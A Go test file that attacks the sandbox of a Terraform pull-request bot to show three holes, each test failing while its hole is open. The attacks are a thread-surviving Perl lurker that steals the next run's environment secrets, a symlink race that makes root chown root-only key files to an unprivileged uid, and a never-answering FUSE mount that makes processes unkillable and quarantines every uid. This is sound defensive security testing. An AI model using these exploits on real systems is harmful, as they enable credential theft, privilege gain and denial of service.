package sandbox

// Second attack review of the sandbox, as a pull request's Terraform (a
// data "external", a provider binary) would attack it: code running as the
// slot's uid inside the run. Each test asserts the secure behaviour and
// fails while the hole is open.

import (
	"bufio"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/stagebot/stagebot/internal/sandbox/sandboxtest"
)

// zz2Threads lists the live threads (pid/tid: state) whose real, effective
// or saved uid is uid: every task, not only thread group leaders.
func zz2Threads(uid int) []string {
	var out []string
	procs, _ := filepath.Glob("/proc/[0-9]*/task/[0-9]*/status")
	for _, p := range procs {
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		var state string
		mine := false
		for _, line := range strings.Split(string(b), "\n") {
			if rest, ok := strings.CutPrefix(line, "State:"); ok {
				state = strings.TrimSpace(rest)
			}
			if rest, ok := strings.CutPrefix(line, "Uid:"); ok {
				f := strings.Fields(rest)
				for _, id := range f[:min(3, len(f))] {
					if id == strconv.Itoa(uid) {
						mine = true
					}
				}
			}
		}
		if mine && !strings.HasPrefix(state, "Z") && !strings.HasPrefix(state, "X") {
			parts := strings.Split(p, "/")
			out = append(out, parts[2]+"/"+parts[4]+": "+state)
		}
	}
	return out
}

// zz2SysExit is the number of exit(2), which ends the calling thread only
// (exit_group(2) ends the process).
func zz2SysExit(t *testing.T) int {
	switch runtime.GOARCH {
	case "amd64":
		return 60
	case "arm64":
		return 93
	}
	t.Fatalf("no exit(2) number for %s", runtime.GOARCH)
	return 0
}

// zz2Leaderless is a shell snippet that starts perl program body (Perl
// code run in a second thread) in the background and then ends the
// process's main thread with exit(2): the thread group leader becomes a
// zombie ("Z" in /proc/<pid>/status) while the other thread runs on.
func zz2Leaderless(t *testing.T, body string) string {
	return fmt.Sprintf(`cat > "$TMPDIR/zz2-lurker.pl" <<'EOF'
use threads;
threads->create(sub {
%s
})->detach;
select(undef, undef, undef, 0.2);
syscall(%d, 0);
EOF
perl "$TMPDIR/zz2-lurker.pl" </dev/null >/dev/null 2>&1 &
sleep 0.5
`, body, zz2SysExit(t))
}

// TestAttackLeaderlessRunOutlivesItsRelease: without namespaces (no
// CAP_SYS_ADMIN, a restricted pod) "what holds is the uid: the run's
// processes are killed by a kill(-1) as that uid ... and proven gone, or
// the uid is quarantined" (README). The proof is processesOf, which reads
// /proc/<pid>/status of thread group leaders only and counts a zombie as
// gone. A run's program that ends its main thread with exit(2) (not
// exit_group) while another thread runs on leaves a zombie leader and a
// live thread: processesOf finds nothing, so empty() returns at once
// without killing anything, Release hands the uid back, and the next run
// of that uid (another PR's plan, a merge with apply credentials) is
// robbed by the lurker: same uid, so its /proc/<pid>/environ is readable.
func TestAttackLeaderlessRunOutlivesItsRelease(t *testing.T) {
	s := newSandbox(t, 40950, 40950)
	s.features = Features{}                // a host without namespaces or cgroups
	t.Cleanup(func() { s.killUID(40950) }) // should the sandbox fail
	loot := sandboxtest.Loot(t)

	l, err := s.Acquire(context.Background(), Spec{})
	if err != nil {
		t.Fatal(err)
	}
	uid := l.UID
	// The lurker scans for a process of its uid holding the marker, for
	// at most 20 s, ten times a second.
	lurker := zz2Leaderless(t, `for my $i (1..200) {
    for my $e (glob "/proc/[0-9]*/environ") {
        open(my $f, "<", $e) or next;
        local $/;
        my $s = <$f>;
        if (defined $s && index($s, "NEXT_RUN_SECRET") >= 0) {
            open(my $o, ">", "`+loot+`") or next;
            print $o $s;
            close $o;
            exit 0;
        }
    }
    select(undef, undef, undef, 0.1);
}`)
	if out, err := start(t, l, lurker+"echo started\n"); err != nil || !strings.Contains(out, "started") {
		t.Fatalf("the hostile run: %v\n%s", err, out)
	}
	if err := l.Release(); err != nil {
		t.Logf("release: %v", err)
	}
	if left := zz2Threads(uid); len(left) > 0 {
		t.Errorf("HOLE: uid %d still runs threads %v after its release, which called it proven free (quarantined: %d): the thread group leader is a zombie, and processesOf counts it, and so the whole process, as gone", uid, left, s.Quarantined())
	}
	next, err := s.Acquire(context.Background(), Spec{})
	if err != nil {
		t.Fatalf("the next run: %v", err)
	}
	if next.UID != uid {
		t.Fatalf("a pool of one handed out %d, then %d", uid, next.UID)
	}
	if _, err := start(t, next, "sleep 1.5", "NEXT_RUN_SECRET=apply-token-zz2"); err != nil {
		t.Fatal(err)
	}
	next.Release()
	if b, err := os.ReadFile(loot); err == nil {
		t.Errorf("HOLE: a thread of the earlier run of uid %d outlived its release and read the next run's environment: %q", uid, strings.ReplaceAll(string(b), "\x00", " "))
	}
}

// TestAttackLurkerMakesRootChownOutsideTheCheckout: shareCheckout walks the
// checkout as root and Lchowns every path under the stage dir to the slot.
// Lchown does not follow the last component, but it follows every one
// before it, and the walk stats a directory, chowns it to the slot, and
// only then reads and handles its entries, by path. A process of the slot
// alive during the walk (the leaderless lurker of the test above, which
// the pool hands the uid back to without noticing) waits until stage/a
// becomes its own, swaps it for a symlink to a root-only directory whose
// file names it copied into a/, and the walk chowns those files, outside
// the checkout, to the slot: here a root-only key; on a real host
// /etc/passwd (a/ holding /etc's names), which is root for the slot.
func TestAttackLurkerMakesRootChownOutsideTheCheckout(t *testing.T) {
	s := newSandbox(t, 40951, 40951)
	s.features = Features{}
	t.Cleanup(func() { s.killUID(40951) }) // should the sandbox fail
	base := sandboxtest.ReachableDir(t)
	// What root keeps: a directory only root may enter, as the bot's
	// data dir holds the App key.
	secret := filepath.Join(base, "bot-secrets")
	os.Mkdir(secret, 0o700)
	var names []string
	for i := range 3000 {
		names = append(names, fmt.Sprintf("n%04d", i))
	}
	names = append(names, "zz-app-key.pem")
	for _, n := range names {
		os.WriteFile(filepath.Join(secret, n), []byte("-----BEGIN RSA PRIVATE KEY----- "+n), 0o600)
	}
	root := filepath.Join(base, "checkout")
	stage := filepath.Join(root, "stage")
	os.MkdirAll(stage, 0o700)
	os.WriteFile(filepath.Join(stage, "main.tf"), []byte("# stage\n"), 0o600)

	l, err := s.Acquire(context.Background(), Spec{Root: root, WriteDir: stage})
	if err != nil {
		t.Fatal(err)
	}
	uid := l.UID
	// The PR's code: a/ with the names of the target's files, and the
	// lurker, which swaps a/ for a link once the next walk makes a/ the
	// slot's again (after the reclaim made it root's).
	lurker := zz2Leaderless(t, fmt.Sprintf(`my ($a, $target, $uid) = ("%s/a", "%s", %d);
my $reclaimed = 0;
for my $i (1..20000) {
    my @st = lstat($a);
    $reclaimed = 1 unless @st; # the stage dir is root's 0700 again
    if (@st) {
        $reclaimed = 1 if $st[4] == 0;
        if ($reclaimed && $st[4] == $uid) {
            rename($a, "$a.old") and symlink($target, $a);
            exit 0;
        }
    }
    select(undef, undef, undef, 0.001);
}`, stage, secret, uid))
	script := fmt.Sprintf("cd %s && mkdir a && cd a && for n in %s; do : > $n; done && cd .. && %s echo started\n",
		shellQuote(stage), strings.Join(names, " "), lurker)
	if out, err := start(t, l, script); err != nil || !strings.Contains(out, "started") {
		t.Fatalf("the hostile run: %v\n%s", err, out)
	}
	if err := l.Release(); err != nil {
		t.Logf("release: %v", err)
	}
	// The next run of the uid on the same checkout (the PR's next plan).
	next, err := s.Acquire(context.Background(), Spec{Root: root, WriteDir: stage})
	if err != nil {
		t.Logf("the next run: %v", err)
	} else {
		defer next.Release()
	}
	var chowned []string
	for _, n := range names {
		var st syscall.Stat_t
		if syscall.Lstat(filepath.Join(secret, n), &st) == nil && int(st.Uid) == uid {
			chowned = append(chowned, n)
		}
	}
	if len(chowned) > 0 {
		t.Errorf("HOLE: root's walk of the checkout (shareCheckout) chowned %d files outside it to the slot's uid %d, in %s (root-only), %s among them, as the run's lurker swapped a directory of its stage dir for a link during the walk", len(chowned), uid, secret, chowned[len(chowned)-1])
	}
}

// TestAttackFuseHelper is the program TestAttackFuseDeadlockQuarantinesTheUid
// runs in the sandbox, in a user and mount namespace of its own (unshare
// -Urm, which any user may do): a FUSE file system that never answers,
// and a thread of its own server that asks it something.
func TestAttackFuseHelper(t *testing.T) {
	mnt := os.Getenv("STAGEBOT_ATTACK_FUSE")
	if mnt == "" {
		return // run by TestAttackFuseDeadlockQuarantinesTheUid
	}
	fd, err := unix.Open("/dev/fuse", unix.O_RDWR, 0)
	if err != nil {
		fmt.Println("NO-FUSE", err)
		return
	}
	if err := unix.Mount("zz2", mnt, "fuse", unix.MS_NOSUID|unix.MS_NODEV, fmt.Sprintf("fd=%d,rootmode=40000,user_id=0,group_id=0", fd)); err != nil {
		fmt.Println("NO-MOUNT", err)
		return
	}
	if b, err := os.ReadFile("/proc/self/mountinfo"); err == nil {
		for _, line := range strings.Split(string(b), "\n") {
			if f := strings.Fields(line); len(f) > 4 && f[4] == mnt {
				_, minor, _ := strings.Cut(f[2], ":")
				fmt.Println("FUSE-CONN", minor)
			}
		}
	}
	buf := make([]byte, 1<<20)
	n, err := unix.Read(fd, buf)
	if err != nil || n < 40 {
		fmt.Println("NO-INIT", err)
		return
	}
	le := binary.LittleEndian
	out := make([]byte, 16+64)
	le.PutUint32(out[0:], uint32(len(out)))
	le.PutUint64(out[8:], le.Uint64(buf[8:16]))
	le.PutUint32(out[16:], 7)    // major
	le.PutUint32(out[20:], 31)   // minor
	le.PutUint32(out[32:], 4096) // max_write
	le.PutUint32(out[36:], 1)    // time_gran
	if _, err := unix.Write(fd, out); err != nil {
		fmt.Println("NO-INIT-REPLY", err)
		return
	}
	go func() {
		runtime.LockOSThread()
		var st unix.Stat_t
		unix.Stat(mnt+"/x", &st) // waits for an answer that never comes
	}()
	if _, err := unix.Read(fd, buf); err != nil { // the lookup: read, never answered
		fmt.Println("NO-REQUEST", err)
		return
	}
	time.Sleep(200 * time.Millisecond)
	fmt.Println("FUSE-STUCK")
	os.Stdout.Sync()
	time.Sleep(time.Hour)
}

// TestAttackFuseDeadlockQuarantinesTheUid: a run may make a user namespace
// (no_new_privs does not stop unshare -Urm) and mount FUSE in it
// (/dev/fuse is 0666). A FUSE server whose own thread waits on a request
// the server has read and never answers cannot die: SIGKILL leaves the
// waiting thread in uninterruptible sleep ("Either request is already in
// userspace ... Wait it out"), and the /dev/fuse descriptor that would
// abort the connection is held by that very thread's file table. Neither
// the PID namespace's end, nor cgroup.kill, nor kill(-1) ends it: the run's
// init hangs in its exit waiting for it, so Terraform never returns (until
// the run's timeout, an hour by default), and at release the uid is
// quarantined for good. One such run per uid (a PR with as many stages or
// instances as the pool has uids, or a few pushes) quarantines them all:
// every later plan of every repository fails, and a restarted bot refuses
// to start ("none of the uids ... can be proven free") until the host is
// rebooted. Secure: a run cannot make a process the release cannot end (no
// user namespaces in runs, e.g. a seccomp filter on unshare/clone with
// CLONE_NEWUSER, or user.max_user_namespaces=0 for the slots; or the
// bot aborts the FUSE connections of a run's mounts at release).
func TestAttackFuseDeadlockQuarantinesTheUid(t *testing.T) {
	s := newSandbox(t, 40952, 40952)
	if !s.features.PID || s.features.Cgroup == "" {
		t.Fatalf("this host gives runs no PID namespace or cgroup: %v", s.features.Missing)
	}
	t.Cleanup(func() { s.killUID(40952) }) // should the sandbox fail
	// The PR's provider binary: this test binary, where the slot may run it.
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(sandboxtest.ReachableDir(t), "zz2-provider")
	if err := exec.Command("cp", self, bin).Run(); err != nil {
		t.Fatal(err)
	}
	os.Chmod(bin, 0o755)

	l, err := s.Acquire(context.Background(), Spec{})
	if err != nil {
		t.Fatal(err)
	}
	var conn string
	t.Cleanup(func() {
		// Abort the connection (fusectl, in a mount namespace of the
		// cleanup's own), which ends the stuck thread.
		if conn != "" {
			exec.Command("unshare", "-m", "sh", "-c", "mount -t fusectl none /sys/fs/fuse/connections && echo 1 > /sys/fs/fuse/connections/"+conn+"/abort").Run()
		}
		for i := 0; i < 100 && len(zz2Threads(40952)) > 0; i++ {
			time.Sleep(50 * time.Millisecond)
		}
		if cg := s.cgroupOf(40952); cg != "" {
			os.Remove(cg)
		}
	})
	script := fmt.Sprintf(`mkdir -p "$TMPDIR/mnt"
unshare -Urm env STAGEBOT_ATTACK_FUSE="$TMPDIR/mnt" %s -test.run '^TestAttackFuseHelper$' -test.count=1 > "$TMPDIR/fuse.out" 2>&1 &
for i in $(seq 100); do grep -q -e FUSE-STUCK -e NO- "$TMPDIR/fuse.out" && break; sleep 0.1; done
cat "$TMPDIR/fuse.out"
echo SCRIPT-DONE
`, shellQuote(bin))
	launcher, extra, _ := l.Command("/bin/sh")
	cmd := exec.Command(launcher, "-c", script)
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + l.Home, "TMPDIR=" + l.Tmp}
	for k, v := range extra {
		cmd.Env = append(cmd.Env, k+"="+v)
	}
	cmd.Dir = l.Tmp
	stdout, _ := cmd.StdoutPipe()
	cmd.Stderr = cmd.Stdout
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	waited := make(chan error, 1)
	lines := make(chan string)
	go func() {
		sc := bufio.NewScanner(stdout)
		for sc.Scan() {
			lines <- sc.Text()
		}
		close(lines)
	}()
	go func() { waited <- cmd.Wait() }()
	var out strings.Builder
	stuck, done := false, false
	timeout := time.After(20 * time.Second)
	for !done {
		select {
		case line, ok := <-lines:
			if !ok {
				done = true
				break
			}
			out.WriteString(line + "\n")
			if c, ok := strings.CutPrefix(line, "FUSE-CONN "); ok {
				conn = strings.TrimSpace(c)
			}
			stuck = stuck || line == "FUSE-STUCK"
			done = line == "SCRIPT-DONE"
		case <-timeout:
			done = true
		}
	}
	go io.Copy(io.Discard, stdout)
	if !stuck {
		cmd.Process.Kill()
		l.Release()
		if strings.Contains(out.String(), "Operation not permitted") {
			return // the run may make no user namespace: no FUSE of its own
		}
		t.Fatalf("the FUSE deadlock was not set up here:\n%s", out.String())
	}
	// Terraform's program (the script) has ended; does the run?
	hung := false
	select {
	case <-waited:
	case <-time.After(5 * time.Second):
		hung = true
		cmd.Process.Kill() // as the run's timeout would
		<-waited
	}
	if hung {
		t.Errorf("HOLE: the run's program ended, but the launcher did not return in 5 s: its init waits in its exit for a process of the run that SIGKILL cannot end (Terraform would wait for the run's timeout)")
	}
	err = l.Release()
	if q := s.Quarantined(); q > 0 || err != nil {
		t.Errorf("HOLE: the run made its uid %d unkillable and it was quarantined for good (%d quarantined; %v); threads left: %v. A PR does it once per uid and no plan of any repository runs again, nor does a restarted bot start", l.UID, q, err, zz2Threads(l.UID))
	}
}
